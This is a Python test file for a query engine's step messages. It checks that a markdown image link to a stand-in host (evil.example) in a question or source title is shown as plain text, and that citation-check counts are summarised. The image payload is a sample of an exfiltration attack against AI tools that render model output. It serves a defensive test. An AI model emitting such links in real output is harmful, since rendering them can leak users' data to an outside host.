"""What readers see rendered must not act, with any content of questions and documents."""

from query_engine import steps
from query_engine.schema.citations import Checked
from tests.fakes.llm import passage

IMAGE = "![x](http://evil.example/?q=all)"


def test_a_title_or_question_that_holds_an_image_or_a_link_is_shown_as_text() -> None:
    told = [steps.searching(f"What is {IMAGE}?", "mine"), *steps.found([passage("Wind.", title=IMAGE)])]

    assert all("(evil.example/?q=all)" in step.text for step in told)
    assert not any("](" in step.text for step in told)
    assert not any("![" in step.text or "http" in step.text for step in told)


def test_the_check_of_a_models_sentences_is_told_in_numbers() -> None:
    told = steps.grounded(Checked(supported=3, replaced=1, dropped=2))

    assert told.text == (
        "**Checked what the model wrote**: 3 sentences stand in the passages, 1 replaced by the quote that does, "
        "2 left out."
    )
